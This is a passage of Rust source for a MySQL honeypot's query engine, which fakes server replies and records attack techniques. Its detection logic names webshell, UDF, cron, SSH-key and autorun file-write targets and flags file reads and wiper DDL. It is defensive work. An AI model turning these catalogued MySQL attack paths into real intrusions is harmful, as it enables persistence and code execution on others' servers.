//! The SQL the honeypot understands, and what it answers.
//!
//! Not a database: a tokenizer that follows MySQL's lexical rules (quotes,
//! escapes, comments, executable `/*!…*/` comments, hex literals) and a
//! handful of statement shapes that clients, scanners and attackers send
//! in their first minutes: `SELECT` of expressions and system variables,
//! `SELECT … FROM` the fake tables (with `=` filters and `LIMIT`), `SHOW
//! DATABASES/TABLES/VARIABLES/…`, `USE`, `SET`, `DESCRIBE`, writes and DDL
//! (answered as a server would, nothing stored). Statements it does not
//! recognise get the server's syntax error, quoting the text as MySQL does.
//!
//! Attack techniques are recognised here (file writes and reads, UDF
//! creation and use, general-log webshells, destructive DDL) and handed to
//! the session as [`Effects`]. A file write or UDF is answered with success
//! so an attack chain runs to the end and is recorded; nothing is written.

use std::net::IpAddr;
use std::sync::atomic::Ordering;
use std::time::Duration;

use mirage_proto::mysql::{Column, charset_mbmaxlen, flags, types};
use serde_json::{Map, Value, json};

use super::schema::{Col, Table};
use super::{Server, lock};

pub use mirage_proto::sql_lex::{MAX_TOKENS, Tok, Token, tokenize, unhex};

/// Longest `SLEEP()` honoured, so a time-based probe sees a delay without
/// holding a session for long.
pub const MAX_SLEEP: Duration = Duration::from_secs(5);
/// Most UDFs and extra databases remembered across sessions.
const MAX_REMEMBERED: usize = 256;

/// A server error to send.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SqlError {
    /// Error number.
    pub code: u16,
    /// SQLSTATE.
    pub state: &'static str,
    /// Message.
    pub message: String,
}

fn err(code: u16, state: &'static str, message: impl Into<String>) -> SqlError {
    SqlError {
        code,
        state,
        message: message.into(),
    }
}

/// A result set.
#[derive(Debug, Clone, Default)]
pub struct ResultSet {
    /// Column definitions.
    pub columns: Vec<Column>,
    /// Rows, each value text or NULL.
    pub rows: Vec<Vec<Option<Vec<u8>>>>,
    /// The server scanned a table without an index (status flag).
    pub no_index: bool,
}

/// What one statement produced.
#[derive(Debug, Clone)]
pub enum Reply {
    /// A result set.
    Rows(ResultSet),
    /// OK with counts, info text and session-state changes (encoded).
    Ok {
        /// Affected rows.
        affected: u64,
        /// Info text.
        info: String,
        /// Session tracking entries.
        track: Vec<u8>,
    },
    /// An error.
    Err(SqlError),
}

/// A recognised attack technique.
#[derive(Debug, Clone, PartialEq)]
pub struct Attack {
    /// Technique id (`mysql.file_write`, …).
    pub technique: &'static str,
    /// One line for humans.
    pub summary: String,
    /// Evidence.
    pub evidence: Map<String, Value>,
    /// Classification tags (`webshell`, `udf`, `wiper`, …).
    pub tags: Vec<String>,
}

/// Side effects of a query the session acts on.
#[derive(Debug, Default)]
pub struct Effects {
    /// Attacks to record.
    pub attacks: Vec<Attack>,
    /// Bytes that would have been written (file writes), to record by hash.
    pub payloads: Vec<Vec<u8>>,
    /// Delay before answering (SLEEP).
    pub sleep: Duration,
}

/// Per-connection SQL state.
#[derive(Debug, Clone)]
pub struct SqlSession {
    /// Current database.
    pub db: Option<String>,
    /// Autocommit on.
    pub autocommit: bool,
    /// In a transaction.
    pub in_trans: bool,
    /// The client's collation id (column lengths and charsets follow it).
    pub charset: u16,
    /// The client negotiated session tracking.
    pub track: bool,
    /// The client may send several statements in one query.
    pub multi_statements: bool,
    /// Login user.
    pub user: String,
    /// Client address.
    pub peer: IpAddr,
    /// Connection id.
    pub conn_id: u32,
    /// The port the client connected to (`@@port`).
    pub port: u16,
}

/// A value computed from an expression.
#[derive(Debug, Clone, PartialEq)]
struct Val {
    bytes: Option<Vec<u8>>,
    kind: Kind,
    not_null: bool,
    /// Declared length in characters, where the function has one
    /// (`DATABASE()` is 64 whatever the value).
    chars: Option<u32>,
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum Kind {
    Str,
    Int,
    Dec,
    Bin,
}

impl Val {
    fn str(s: impl Into<Vec<u8>>) -> Val {
        Val {
            bytes: Some(s.into()),
            kind: Kind::Str,
            not_null: true,
            chars: None,
        }
    }
    fn int(i: i64) -> Val {
        Val {
            bytes: Some(i.to_string().into_bytes()),
            kind: Kind::Int,
            not_null: true,
            chars: None,
        }
    }
    fn null() -> Val {
        Val {
            bytes: None,
            kind: Kind::Str,
            not_null: false,
            chars: None,
        }
    }
    fn nullable(mut self) -> Val {
        self.not_null = false;
        self
    }
    fn as_i64(&self) -> Option<i64> {
        let b = self.bytes.as_ref()?;
        let s = std::str::from_utf8(b).ok()?.trim();
        s.parse::<i64>()
            .ok()
            .or_else(|| s.parse::<f64>().ok().map(|f| f as i64))
    }
}

/// Statements of one COM_QUERY, split at top-level `;`.
fn split_statements(toks: &[Token]) -> Vec<&[Token]> {
    toks.split(|t| t.tok == Tok::Op(";".into()))
        .filter(|s| !s.is_empty())
        .collect()
}

/// The lower-cased keyword of a bare word.
fn kw(t: Option<&Token>) -> Option<String> {
    match t.map(|t| &t.tok) {
        Some(Tok::Word(w)) => Some(w.to_ascii_lowercase()),
        _ => None,
    }
}

fn is_kw(t: Option<&Token>, word: &str) -> bool {
    matches!(t.map(|t| &t.tok), Some(Tok::Word(w)) if w.eq_ignore_ascii_case(word))
}

fn is_op(t: Option<&Token>, op: &str) -> bool {
    matches!(t.map(|t| &t.tok), Some(Tok::Op(o)) if o == op)
}

/// An identifier (bare or quoted) or string at `t`.
fn name_of(t: Option<&Token>) -> Option<String> {
    match t.map(|t| &t.tok) {
        Some(Tok::Word(w)) | Some(Tok::Ident(w)) => Some(w.clone()),
        Some(Tok::Str(s)) => Some(String::from_utf8_lossy(s).into_owned()),
        _ => None,
    }
}

/// The source text from token `a` to token `b` inclusive.
fn text<'a>(sql: &'a [u8], toks: &[Token], a: usize, b: usize) -> &'a [u8] {
    match (toks.get(a), toks.get(b)) {
        (Some(x), Some(y)) if x.start <= y.end && y.end <= sql.len() => &sql[x.start..y.end],
        _ => b"",
    }
}

/// The text from token `i` to the end of the statement, for syntax errors.
fn near<'a>(sql: &'a [u8], toks: &[Token], i: usize) -> &'a [u8] {
    let end = toks.last().map(|t| t.end).unwrap_or(0).min(sql.len());
    match toks.get(i) {
        Some(t) if t.start <= end => &sql[t.start..end],
        _ => b"",
    }
}

/// SQL `LIKE` (case-insensitive, `%`, `_`, backslash escapes).
pub fn like(p: &[u8], s: &[u8]) -> bool {
    // Iterative, backtracking only to the last `%`: linear in practice and
    // never deeper than one frame, whatever pattern an attacker writes.
    let (mut pi, mut si) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        if p.get(pi) == Some(&b'%') {
            star = Some((pi, si));
            pi += 1;
            continue;
        }
        if let Some(&c) = p.get(pi) {
            let (want, step) = match (c, p.get(pi + 1)) {
                (b'\\', Some(&e)) => (Some(e), 2),
                (b'_', _) => (None, 1),
                _ => (Some(c), 1),
            };
            if want.is_none_or(|w| w.eq_ignore_ascii_case(&s[si])) {
                pi += step;
                si += 1;
                continue;
            }
        }
        match star {
            Some((sp, ss)) => {
                pi = sp + 1;
                si = ss + 1;
                star = Some((sp, ss + 1));
            }
            None => return false,
        }
    }
    while p.get(pi) == Some(&b'%') {
        pi += 1;
    }
    pi == p.len()
}

/// Classify a file path an attacker writes to.
fn path_class(path: &str) -> &'static str {
    let p = path.to_ascii_lowercase();
    if p.contains("plugin") || p.ends_with(".so") || p.ends_with(".dll") {
        "udf"
    } else if [".php", ".jsp", ".asp", ".aspx", ".phtml"]
        .iter()
        .any(|e| p.ends_with(e))
        || p.contains("/www")
        || p.contains("htdocs")
    {
        "webshell"
    } else if p.contains("cron") {
        "cron"
    } else if p.contains("authorized_keys") || p.contains(".ssh") {
        "ssh_key"
    } else if p.contains("startup") || p.contains("mof") {
        "autorun"
    } else {
        "other"
    }
}

/// The first keyword of a query, lower-cased (the event's command name);
/// `query` when it has none.
pub fn first_keyword(sql: &[u8]) -> String {
    let toks = tokenize(&sql[..sql.len().min(4096)]);
    match toks.first().map(|t| &t.tok) {
        Some(Tok::Word(w)) => w.to_ascii_lowercase(),
        _ => "query".into(),
    }
}

/// Runs queries against the fake server.
pub struct Engine<'a> {
    /// Shared server state.
    pub server: &'a Server,
    /// This connection's state.
    pub session: &'a mut SqlSession,
    /// Effects gathered.
    pub effects: Effects,
    /// Nesting of SELECTs (scalar subqueries), bounded.
    depth: u32,
}

impl<'a> Engine<'a> {
    /// An engine for one query.
    pub fn new(server: &'a Server, session: &'a mut SqlSession) -> Self {
        Engine {
            server,
            session,
            effects: Effects::default(),
            depth: 0,
        }
    }

    /// Run a COM_QUERY; one reply per statement (several only for clients
    /// with `CLIENT_MULTI_STATEMENTS`), stopping at the first error as the
    /// server does.
    pub fn run(&mut self, sql: &[u8]) -> Vec<Reply> {
        let toks = tokenize(sql);
        let stmts = split_statements(&toks);
        if stmts.is_empty() {
            return vec![Reply::Err(err(1065, "42000", "Query was empty"))];
        }
        if stmts.len() > 1 && !self.session.multi_statements {
            let second = stmts[1].first().map(|t| t.start).unwrap_or(0);
            let end = toks.last().map(|t| t.end).unwrap_or(0);
            let near = sql.get(second..end).unwrap_or(b"");
            return vec![Reply::Err(err(
                1064,
                "42000",
                self.server.flavor.parse_error(near),
            ))];
        }
        let mut out = Vec::new();
        for s in stmts {
            let r = self.statement(sql, s);
            let stop = matches!(r, Reply::Err(_));
            out.push(r);
            if stop {
                break;
            }
        }
        out
    }

    fn parse_error(&self, sql: &[u8], toks: &[Token], i: usize) -> Reply {
        Reply::Err(err(
            1064,
            "42000",
            self.server.flavor.parse_error(near(sql, toks, i)),
        ))
    }

    fn ok(&self, affected: u64) -> Reply {
        Reply::Ok {
            affected,
            info: String::new(),
            track: Vec::new(),
        }
    }

    fn attack(&mut self, technique: &'static str, summary: String, evidence: Value) {
        let evidence = match evidence {
            Value::Object(m) => m,
            _ => Map::new(),
        };
        // Tags as the Redis honeypot uses them: what kind of harm.
        let mut tags: Vec<String> = match technique {
            "mysql.udf" => vec!["udf".into()],
            "mysql.udf_exec" => vec!["udf".into(), "command_exec".into()],
            "mysql.file_read" => vec!["file_read".into()],
            "mysql.destroy" => vec!["wiper".into()],
            _ => Vec::new(),
        };
        if let Some(class) = evidence.get("class").and_then(Value::as_str)
            && class != "other"
            && !tags.iter().any(|t| t == class)
        {
            tags.push(class.to_owned());
        }
        self.effects.attacks.push(Attack {
            technique,
            summary,
            evidence,
            tags,
        });
    }

    fn statement(&mut self, sql: &[u8], mut t: &[Token]) -> Reply {
        // `((SELECT …))`: answer the inner select. A loop, not recursion:
        // the nesting is the attacker's to choose.
        while is_op(t.first(), "(") && is_op(t.last(), ")") && t.len() >= 2 {
            t = &t[1..t.len() - 1];
        }
        let Some(first) = kw(t.first()) else {
            return self.parse_error(sql, t, 0);
        };
        match first.as_str() {
            "select" => self.select(sql, t),
            "show" => self.show(sql, t),
            "use" => match name_of(t.get(1)) {
                Some(db) => self.use_db(&db),
                None => self.parse_error(sql, t, 1),
            },
            "set" => self.set(sql, t),
            "describe" | "desc" | "explain" => {
                if is_kw(t.get(1), "select") {
                    return self.select(sql, &t[1..]);
                }
                match self.table_ref(t, 1) {
                    Some((db, name, _)) => self.describe(&db, &name),
                    None => self.parse_error(sql, t, 1),
                }
            }
            "insert" | "replace" | "update" | "delete" => self.write(sql, t, &first),
            "create" => self.create(sql, t),
            "drop" | "truncate" => self.drop(sql, t, &first),
            "load" => self.load(sql, t),
            "begin" | "start" | "xa" => {
                self.session.in_trans = true;
                self.ok(0)
            }
            "commit" | "rollback" => {
                self.session.in_trans = false;
                self.ok(0)
            }
            "kill" => {
                let id = t.iter().find_map(|x| match &x.tok {
                    Tok::Num(n) => Some(n.clone()),
                    _ => None,
                });
                match id {
                    Some(id) => Reply::Err(err(1094, "HY000", format!("Unknown thread id: {id}"))),
                    None => self.parse_error(sql, t, 1),
                }
            }
            "do" | "alter" | "rename" | "grant" | "revoke" | "flush" | "analyze" | "optimize"
            | "repair" | "check" | "checksum" | "lock" | "unlock" | "savepoint" | "release"
            | "handler" | "prepare" | "execute" | "deallocate" | "install" | "uninstall"
            | "reset" | "purge" | "change" | "stop" | "cache" | "binlog" | "signal"
            | "resignal" | "help" | "call" => self.ok(0),
            "with" | "values" | "table" => Reply::Rows(ResultSet::default()),
            _ => self.parse_error(sql, t, 0),
        }
    }

    fn use_db(&mut self, db: &str) -> Reply {
        if !self.db_exists(db) {
            return Reply::Err(err(
                1049,
                "42000",
                format!("Unknown database '{}'", cap(db, 192)),
            ));
        }
        self.session.db = Some(db.to_owned());
        let track = if self.session.track {
            mirage_proto::mysql::session_track_schema(db.as_bytes())
        } else {
            Vec::new()
        };
        Reply::Ok {
            affected: 0,
            info: String::new(),
            track,
        }
    }

    fn db_exists(&self, db: &str) -> bool {
        self.server.catalog.database(db).is_some() || lock(&self.server.extra_dbs).contains(db)
    }

    /// `[db.]name [[AS] alias]` at token `i`: (db, name, alias).
    fn table_ref(&self, t: &[Token], i: usize) -> Option<(String, String, Option<String>)> {
        let a = name_of(t.get(i))?;
        let (db, name, mut j) = if is_op(t.get(i + 1), ".") {
            (Some(a), name_of(t.get(i + 2))?, i + 3)
        } else {
            (None, a, i + 1)
        };
        if is_kw(t.get(j), "as") {
            j += 1;
        }
        let alias = match t.get(j).map(|x| &x.tok) {
            Some(Tok::Word(w)) if !CLAUSES.contains(&w.to_ascii_lowercase().as_str()) => {
                Some(w.clone())
            }
            Some(Tok::Ident(w)) => Some(w.clone()),
            _ => None,
        };
        let db = db.or_else(|| self.session.db.clone()).unwrap_or_default();
        Some((db, name, alias))
    }

    fn lookup(&self, db: &str, name: &str) -> Result<Table, SqlError> {
        if db.is_empty() {
            return Err(err(1046, "3D000", "No database selected"));
        }
        if db.eq_ignore_ascii_case("information_schema")
            && let Some(t) = self
                .server
                .catalog
                .information_schema(name, !self.server.flavor.mariadb)
        {
            return Ok(t);
        }
        self.server.catalog.table(db, name).cloned().ok_or_else(|| {
            err(
                1146,
                "42S02",
                format!("Table '{}.{}' doesn't exist", cap(db, 192), cap(name, 192)),
            )
        })
    }

    fn text_col(&self, name: &str, chars: u32) -> Column {
        Column {
            name: name.into(),
            charset: self.session.charset,
            length: chars.saturating_mul(charset_mbmaxlen(self.session.charset)),
            column_type: types::VAR_STRING,
            decimals: self.server.flavor.not_fixed_dec,
            ..Column::default()
        }
    }

    /// A result set of text columns (what SHOW statements return).
    fn text_rows(
        &self,
        schema: &str,
        table: &str,
        cols: &[(&str, &str, u32)],
        rows: Vec<Vec<Option<String>>>,
    ) -> Reply {
        let columns = cols
            .iter()
            .map(|(name, org, chars)| Column {
                schema: schema.into(),
                table: table.into(),
                org_table: table.into(),
                name: (*name).into(),
                org_name: (*org).into(),
                charset: self.session.charset,
                length: chars.saturating_mul(charset_mbmaxlen(self.session.charset)),
                column_type: types::VAR_STRING,
                flags: flags::NOT_NULL | 4096,
                decimals: 0,
            })
            .collect();
        // SHOW reads information_schema without an index: the server says so
        // in the status flags.
        Reply::Rows(ResultSet {
            columns,
            rows: rows
                .into_iter()
                .map(|r| r.into_iter().map(|v| v.map(String::into_bytes)).collect())
                .collect(),
            no_index: true,
        })
    }

    fn column_of(&self, val: &Val, name: &str) -> Column {
        let len = val.bytes.as_ref().map(|b| b.len()).unwrap_or(0) as u32;
        let mysql = !self.server.flavor.mariadb;
        let nn = if val.not_null { flags::NOT_NULL } else { 0 };
        match (val.kind, &val.bytes) {
            (Kind::Str, None) if val.chars.is_some() => Column {
                flags: nn,
                ..self.text_col(name, val.chars.unwrap_or(0))
            },
            (_, None) => Column {
                name: name.into(),
                charset: 63,
                column_type: types::NULL,
                flags: flags::BINARY,
                ..Column::default()
            },
            (Kind::Int, Some(b)) => {
                let big = std::str::from_utf8(b)
                    .ok()
                    .and_then(|s| s.parse::<i32>().ok())
                    .is_none();
                Column {
                    name: name.into(),
                    charset: 63,
                    length: len,
                    column_type: if mysql || big {
                        types::LONGLONG
                    } else {
                        types::LONG
                    },
                    flags: nn | flags::BINARY,
                    ..Column::default()
                }
            }
            (Kind::Dec, Some(b)) => {
                let dec = b.iter().rev().take_while(|&&c| c != b'.').count() as u8;
                Column {
                    name: name.into(),
                    charset: 63,
                    length: len,
                    column_type: types::NEWDECIMAL,
                    flags: nn | flags::BINARY,
                    decimals: dec,
                    ..Column::default()
                }
            }
            (Kind::Bin, Some(_)) => Column {
                name: name.into(),
                charset: 63,
                length: len,
                column_type: types::VAR_STRING,
                flags: nn | flags::BINARY,
                decimals: self.server.flavor.not_fixed_dec,
                ..Column::default()
            },
            (Kind::Str, Some(b)) => {
                let chars = val
                    .chars
                    .unwrap_or_else(|| String::from_utf8_lossy(b).chars().count() as u32);
                Column {
                    flags: nn,
                    ..self.text_col(name, chars)
                }
            }
        }
    }

    fn select(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        // Subqueries nest through here; a real server stops too (its own
        // parser limit), and so must a recursion on attacker input.
        if self.depth >= 16 {
            return self.parse_error(sql, t, 0);
        }
        self.depth += 1;
        let r = self.select_inner(sql, t);
        self.depth -= 1;
        r
    }

    fn select_inner(&mut self, sql: &[u8], t: &[Token]) -> Reply {
        // Top-level clause positions.
        let mut depth = 0i32;
        let mut from = None;
        let mut end_items = t.len();
        let mut into = None;
        for (i, tok) in t.iter().enumerate().skip(1) {
            match &tok.tok {
                Tok::Op(o) if o == "(" => depth += 1,
                Tok::Op(o) if o == ")" => depth -= 1,
                Tok::Word(w) if depth == 0 => {
                    let w = w.to_ascii_lowercase();
                    if w == "into" && into.is_none() {
                        into = Some(i);
                        end_items = end_items.min(i);
                    } else if w == "from" && from.is_none() {
                        from = Some(i);
                        end_items = end_items.min(i);
                    } else if CLAUSES.contains(&w.as_str()) && w != "from" {
                        end_items = end_items.min(i);
                    }
                }
                _ => {}
            }
        }
        let mut start = 1;
        while let Some(k) = kw(t.get(start)) {
            if SELECT_MODIFIERS.contains(&k.as_str()) {
                start += 1;
            } else {
                break;
            }
        }
        let items = split_top(&t[start.min(end_items)..end_items]);
        if items.is_empty() {
            return self.parse_error(sql, t, start);
        }
        if let Some(i) = into {
            return self.select_into(sql, t, i, &items);
        }
        match from {
            Some(f) if !is_kw(t.get(f + 1), "dual") => self.select_from(sql, t, f, &items),
            _ => self.select_exprs(sql, &items),
        }
    }

    fn select_exprs(&mut self, sql: &[u8], items: &[&[Token]]) -> Reply {
        let mut columns = Vec::new();
        let mut row = Vec::new();
        for item in items {
            let (expr, alias) = split_alias(item);
            if expr.is_empty() {
                return Reply::Err(err(1064, "42000", self.server.flavor.parse_error(b"")));
            }
            let val = match self.eval(sql, expr) {
                Ok(v) => v,
                Err(e) => return Reply::Err(e),
            };
            let name = alias.unwrap_or_else(|| item_name(sql, expr));
            columns.push(self.column_of(&val, &name));
            row.push(val.bytes);
        }
        Reply::Rows(ResultSet {
            columns,
            rows: vec![row],
            no_index: false,
        })
    }

    fn select_into(&mut self, sql: &[u8], t: &[Token], into: usize, items: &[&[Token]]) -> Reply {
        let kind = kw(t.get(into + 1)).unwrap_or_default();
        if kind != "outfile" && kind != "dumpfile" {
            // `SELECT … INTO @var`: fine, nothing to answer but OK.
            return self.ok(1);
        }
        let Some(Tok::Str(path)) = t.get(into + 2).map(|x| &x.tok) else {
            return self.parse_error(sql, t, into + 2);
        };
        let path = String::from_utf8_lossy(path).into_owned();
        // The data: the selected literal(s) where they can be evaluated.
        let mut data = Vec::new();
        for item in items {
            let (expr, _) = split_alias(item);
            if let Ok(v) = self.eval(sql, expr) {
                data.extend_from_slice(v.bytes.as_deref().unwrap_or(b"\\N"));
            }
        }
        let class = path_class(&path);
        let sha = mirage_core::PayloadData::new(&data, 0).sha256;
        self.attack(
            "mysql.file_write",
            format!(
                "SELECT INTO {} '{}' ({} bytes, {class})",
                kind.to_uppercase(),
                cap(&path, 200),
                data.len()
            ),
            json!({"path": path, "mode": kind, "class": class, "len": data.len(), "sha256": sha}),
        );
        if !data.is_empty() {
            self.effects.payloads.push(data);
        }
        self.ok(1)
    }

    fn select_from(&mut self, sql: &[u8], t: &[Token], from: usize, items: &[&[Token]]) -> Reply {
        let Some((db, name, alias)) = self.table_ref(t, from + 1) else {
            return self.parse_error(sql, t, from + 1);
        };
        let table = match self.lookup(&db, &name) {
            Ok(t) => t,
            Err(e) => return Reply::Err(e),
        };
        if !db.eq_ignore_ascii_case("information_schema") && !self.session.autocommit {
            self.session.in_trans = true;
        }
        let schema = if db.eq_ignore_ascii_case("information_schema") {
            "information_schema".to_owned()
        } else {
            db.clone()
        };
        let talias = alias.unwrap_or_else(|| table.name.to_owned());
        // Rows after WHERE `col = literal` filters and LIMIT.
        let mut rows: Vec<&Vec<Option<String>>> = table.rows.iter().collect();
        let mut i = from + 1;
        while i < t.len() && !is_kw(t.get(i), "where") {
            i += 1;
        }
        let where_at = i;
        let mut limit: Option<(usize, usize)> = None;
        let mut j = from + 1;
        while j < t.len() {
            if is_kw(t.get(j), "limit") {
                let num = |k: usize| match t.get(k).map(|x| &x.tok) {
                    Some(Tok::Num(n)) => n.parse::<usize>().ok(),
                    _ => None,
                };
                if let Some(a) = num(j + 1) {
                    limit = Some(if is_op(t.get(j + 2), ",") {
                        (a, num(j + 3).unwrap_or(0))
                    } else if is_kw(t.get(j + 2), "offset") {
                        (num(j + 3).unwrap_or(0), a)
                    } else {
                        (0, a)
                    });
                }
                break;
            }
            if j > where_at
                && let (Some(col), true) = (name_of(t.get(j)), is_op(t.get(j + 1), "="))
            {
                let lit = match t.get(j + 2).map(|x| &x.tok) {
                    Some(Tok::Str(s)) => Some(String::from_utf8_lossy(s).into_owned()),
                    Some(Tok::Num(n)) => Some(n.clone()),
                    _ => None,
                };
                let col = col.rsplit('.').next().unwrap_or(&col).to_owned();
                if let (Some(lit), Some(ci)) = (
                    lit,
                    table
                        .cols
                        .iter()
                        .position(|c| c.name.eq_ignore_ascii_case(&col)),
                ) {
                    rows.retain(|r| {
                        r.get(ci)
                            .and_then(|v| v.as_deref())
                            .is_some_and(|v| v.eq_ignore_ascii_case(&lit))
                    });
                }
            }
            j += 1;
        }
        if let Some((off, n)) = limit {
            rows = rows.into_iter().skip(off).take(n).collect();
        }
        let mut columns = Vec::new();
        let mut picks: Vec<Pick> = Vec::new();
        for item in items {
            let (expr, alias) = split_alias(item);
            let star = expr.len() == 1 && is_op(expr.first(), "*")
                || expr.len() == 3 && is_op(expr.get(1), ".") && is_op(expr.get(2), "*");
            if star {
                for (ci, c) in table.cols.iter().enumerate() {
                    columns.push(self.table_col(&schema, &talias, table.name, c, None));
                    picks.push(Pick::Col(ci));
                }
                continue;
            }
            if is_kw(expr.first(), "count") && is_op(expr.get(1), "(") {
                let name = alias.unwrap_or_else(|| item_name(sql, expr));
                let v = Val::int(rows.len() as i64);
                columns.push(self.column_of(&v, &name));
                picks.push(Pick::Val(v.bytes));
                continue;
            }
            let col_name = match expr {
                [one] => name_of(Some(one)).filter(|_| !matches!(one.tok, Tok::Str(_))),
                [_, dot, c] if is_op(Some(dot), ".") => name_of(Some(c)),
                _ => None,
            };
            if let Some(cn) = col_name {
                match table
                    .cols
                    .iter()
                    .position(|c| c.name.eq_ignore_ascii_case(&cn))
                {
                    Some(ci) => {
                        columns.push(self.table_col(
                            &schema,
                            &talias,
                            table.name,
                            &table.cols[ci],
                            alias,
                        ));
                        picks.push(Pick::Col(ci));
                    }
                    None => {
                        return Reply::Err(err(
                            1054,
                            "42S22",
                            format!(
                                "Unknown column '{}' in '{}'",
                                cap(&cn, 192),
                                self.server.flavor.field_list_clause()
                            ),
                        ));
                    }
                }
                continue;
            }
            match self.eval(sql, expr) {
                Ok(v) => {
                    let name = alias.unwrap_or_else(|| item_name(sql, expr));
                    columns.push(self.column_of(&v, &name));
                    picks.push(Pick::Val(v.bytes));
                }
                Err(e) => return Reply::Err(e),
            }
        }
        let aggregate = picks.iter().all(|p| matches!(p, Pick::Val(_)));
        let out_rows: Vec<Vec<Option<Vec<u8>>>> = if aggregate {
            vec![
                picks
                    .iter()
                    .map(|p| match p {
                        Pick::Val(v) => v.clone(),
                        Pick::Col(_) => None,
                    })
                    .collect(),
            ]
        } else {
            rows.iter()
                .map(|r| {
                    picks
                        .iter()
                        .map(|p| match p {
                            Pick::Col(ci) => r.get(*ci).cloned().flatten().map(String::into_bytes),
                            Pick::Val(v) => v.clone(),
                        })
                        .collect()
                })
                .collect()
        };
        Reply::Rows(ResultSet {
            columns,
            rows: out_rows,
            no_index: true,
        })
    }

    fn table_col(
        &self,
        schema: &str,
        table: &str,
        org_table: &str,
        c: &Col,
        alias: Option<String>,
    ) -> Column {
        let (ty, chars, fl, text) = c.wire();
        let (charset, length) = if text {
            (
                self.session.charset,
                chars.saturating_mul(charset_mbmaxlen(self.session.charset)),
            )
        } else {
            (63, chars)
        };
        Column {
            schema: schema.into(),
            table: table.into(),
            org_table: org_table.into(),
            name: alias.unwrap_or_else(|| c.name.into()),
            org_name: c.name.into(),
            charset,
            length,
            column_type: ty,
            flags: fl,
            decimals: if c.kind == super::schema::Kind::Decimal {
                2
            } else {
                0
            },
        }
    }

    /// Evaluate an expression (literals, system variables, a few functions,
    /// integer arithmetic).
    fn eval(&mut self, sql: &[u8], t: &[Token]) -> Result<Val, SqlError> {
        let mut p = 0usize;
        let v = self.eval_add(sql, t, &mut p, 0)?;
        if p < t.len() {
            // Comparisons and the like: answer 1 (true), as `1=1` would.
            if matches!(t.get(p).map(|x| &x.tok), Some(Tok::Op(o)) if ["=", "<", ">", "<=", ">=", "<>", "!="].contains(&o.as_str()))
                || kw(t.get(p)).is_some_and(|k| {
                    ["and", "or", "like", "is", "in", "between", "regexp", "xor"]
                        .contains(&k.as_str())
                })
            {
                return Ok(Val::int(1));
            }
            return Err(err(
                1064,
                "42000",
                self.server.flavor.parse_error(near(sql, t, p)),
            ));
        }
        Ok(v)
    }

    fn eval_add(
        &mut self,
        sql: &[u8],
        t: &[Token],
        p: &mut usize,
        depth: u32,
    ) -> Result<Val, SqlError> {
        let mut v = self.eval_mul(sql, t, p, depth)?;
        while let Some(Tok::Op(o)) = t.get(*p).map(|x| &x.tok) {
            let op = o.clone();
            if op != "+" && op != "-" {
                break;
            }
            *p += 1;
            let r = self.eval_mul(sql, t, p, depth)?;
            v = arith(&v, &r, &op);
        }
        Ok(v)
    }

    fn eval_mul(
        &mut self,
        sql: &[u8],
        t: &[Token],
        p: &mut usize,
        depth: u32,
    ) -> Result<Val, SqlError> {
        let mut v = self.eval_primary(sql, t, p, depth)?;
        while let Some(Tok::Op(o)) = t.get(*p).map(|x| &x.tok) {
            let op = o.clone();
            if op != "*" && op != "/" && op != "%" {
                break;
            }
            *p += 1;
            let r = self.eval_primary(sql, t, p, depth)?;
            v = arith(&v, &r, &op);
        }
        Ok(v)
    }

    fn eval_primary(
        &mut self,
        sql: &[u8],
        t: &[Token],
        p: &mut usize,
        depth: u32,
    ) -> Result<Val, SqlError> {
        if depth > 32 {
            return Err(err(
                1064,
                "42000",
                self.server.flavor.parse_error(near(sql, t, *p)),
            ));
        }
        let Some(tok) = t.get(*p) else {
            return Err(err(1064, "42000", self.server.flavor.parse_error(b"")));
        };
        *p += 1;
        Ok(match &tok.tok {
            Tok::Num(n) => {
                if n.contains('.') || n.contains('e') || n.contains('E') {
                    Val {
                        bytes: Some(n.clone().into_bytes()),
                        kind: Kind::Dec,
                        not_null: true,
                        chars: None,
                    }
                } else {
                    Val {
                        bytes: Some(n.clone().into_bytes()),
                        kind: Kind::Int,
                        not_null: true,
                        chars: None,
                    }
                }
            }
            Tok::Str(s) => {
                // Adjacent strings concatenate ('a' 'b').
                let mut s = s.clone();
                while let Some(Tok::Str(more)) = t.get(*p).map(|x| &x.tok) {
                    s.extend_from_slice(more);
                    *p += 1;
                }
                Val::str(s)
            }
            Tok::Hex(h) => Val {
                bytes: Some(h.clone()),
                kind: Kind::Bin,
                not_null: true,
                chars: None,
            },
            Tok::SysVar(name) => match self.sysvar(name) {
                Some(v) => v.nullable(),
                None => {
                    return Err(err(
                        1193,
                        "HY000",
                        format!("Unknown system variable '{}'", cap(name, 64)),
                    ));
                }
            },
            Tok::UserVar(_) => Val::null(),
            Tok::Op(o) if o == "-" => {
                let v = self.eval_primary(sql, t, p, depth + 1)?;
                arith(&Val::int(0), &v, "-")
            }
            Tok::Op(o) if o == "(" => {
                if is_kw(t.get(*p), "select") {
                    // A scalar subquery: its first column of its first row.
                    let close = matching_paren(t, *p - 1).unwrap_or(t.len());
                    let inner = &t[*p..close.min(t.len())];
                    *p = close + 1;
                    return Ok(match self.select(sql, inner) {
                        Reply::Rows(rs) => {
                            match rs.rows.first().and_then(|r| r.first()).cloned().flatten() {
                                Some(b) => Val::str(b),
                                None => Val::null(),
                            }
                        }
                        Reply::Err(e) => return Err(e),
                        Reply::Ok { .. } => Val::null(),
                    });
                }
                let v = self.eval_add(sql, t, p, depth + 1)?;
                if is_op(t.get(*p), ")") {
                    *p += 1;
                }
                v
            }
            Tok::Word(w) => {
                let lw = w.to_ascii_lowercase();
                if is_op(t.get(*p), "(") {
                    let close = matching_paren(t, *p).unwrap_or(t.len());
                    let args_toks = &t[(*p + 1).min(close)..close.min(t.len())];
                    *p = close + 1;
                    let mut args = Vec::new();
                    for a in split_top(args_toks) {
                        if a.len() == 1 && is_op(a.first(), "*") {
                            args.push(Val::int(1));
                            continue;
                        }
                        args.push(self.eval_add(sql, a, &mut 0, depth + 1)?);
                    }
                    return self.function(&lw, args);
                }
                match lw.as_str() {
                    "null" => Val::null(),
                    "true" => Val::int(1),
                    "false" => Val::int(0),
                    "current_user" | "user" => self.function(&lw, Vec::new())?,
                    "current_timestamp" | "localtime" | "localtimestamp" | "current_date"
                    | "current_time" => self.function(&lw, Vec::new())?,
                    "binary" | "distinct" => return self.eval_primary(sql, t, p, depth + 1),
                    _ => {
                        return Err(err(
                            1054,
                            "42S22",
                            format!(
